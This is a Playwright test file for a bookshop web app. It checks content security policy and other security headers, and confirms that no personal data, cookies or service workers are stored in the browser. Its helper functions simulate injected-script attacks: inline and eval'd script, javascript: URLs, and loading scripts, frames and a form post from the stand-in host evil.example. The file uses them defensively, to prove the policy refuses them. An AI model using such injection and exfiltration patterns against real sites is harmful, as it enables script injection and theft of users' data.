import { openDashboard } from './dashboard.ts';
import { expect, test } from './fixtures.ts';
import { newCustomer, openSignedIn } from './people.ts';
import { placeOrder, seededBooks } from './shopData.ts';
import { visit } from './visit.ts';

/** Tries what an injected script could do. */
async function attemptViolations(): Promise<void> {
  const add = (name: string, properties: object, text = '') => {
    const element = Object.assign(document.createElement(name), properties);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const script = 'document.documentElement.dataset.ran = "yes"';
  add('script', {}, script);
  add('button', {}).setAttribute('onclick', script);
  document.querySelector<HTMLElement>('[onclick]')?.click();
  add('a', { href: `javascript:${script}` }).click();
  // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
  setTimeout(script);
  add('script', { src: 'https://evil.example/a.js' });
  add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' });
  add('iframe', { src: 'https://evil.example/' });
  add('object', { data: 'https://evil.example/a.swf' });
  add('base', { href: 'https://evil.example/' });
  await fetch('https://evil.example/').catch(() => undefined);
}

function sendAway(): void {
  const form = document.createElement('form');
  Object.assign(form, { action: 'https://evil.example/', method: 'post' });
  document.body.append(form);
  form.submit();
}

// E42, E43, E44
test('every document has a strict content security policy', async ({ page, watched }) => {
  for (const path of ['/admin', '/dashboard/orders', '/no/such/page', '/about']) {
    expect((await page.goto(path))?.headers(), path).toMatchObject({
      'content-security-policy': expect.stringMatching(
        /default-src 'none'; script-src 'self' https:\/\/apis\.google\.com; .*object-src 'none'; base-uri 'none'; .*frame-ancestors 'none'$/,
      ),
      'cross-origin-opener-policy': 'same-origin-allow-popups',
      'x-content-type-options': 'nosniff',
      'permissions-policy': 'camera=(self), display-capture=(), geolocation=(), microphone=(), payment=(), usb=()',
    });
  }
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('About');
  await page.evaluate(attemptViolations);
  const violations = [
    'script-src-elem inline',
    'script-src-attr inline',
    'script-src eval',
    'script-src-elem https://evil.example/a.js',
    'style-src-elem https://evil.example/a.css',
    'frame-src https://evil.example',
    'object-src https://evil.example',
    'base-uri https://evil.example/',
    'connect-src https://evil.example/',
  ];
  for (const violation of violations) {
    await expect.poll(() => watched.violations).toContain(`Refused by the policy: ${violation}`);
  }
  await expect(page.locator('html')).not.toHaveAttribute('data-ran');
  await page.evaluate(sendAway);
  await expect.poll(() => watched.violations).toContain('Refused by the policy: form-action https://evil.example/');
  expect(watched.foreignRequests).toEqual([]);
  watched.violations.length = 0;
});

// E50
test('the browser stores nothing personal, and no service worker or cookie', async ({ page }) => {
  const customer = await newCustomer();
  await placeOrder(page.request, customer, await seededBooks(page.request, 1));
  await openSignedIn(page, customer, '/about');
  for (const role of ['customer', 'admin']) {
    const isPersonal = (url: string) => new URL(url).pathname.startsWith('/api/orders');
    const answered = page.waitForResponse((response) => isPersonal(response.url()));
    if (role === 'customer') await visit(page, '/orders');
    else await openDashboard(page, '/dashboard/orders');
    expect((await answered).headers()['cache-control']).toBe('private, no-store');
  }
  const storedData = await page.evaluate(async () => ({
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    caches: await caches.keys(),
    cookies: document.cookie,
  }));
  expect(storedData).toEqual({ workers: 0, caches: [], cookies: '' });
});
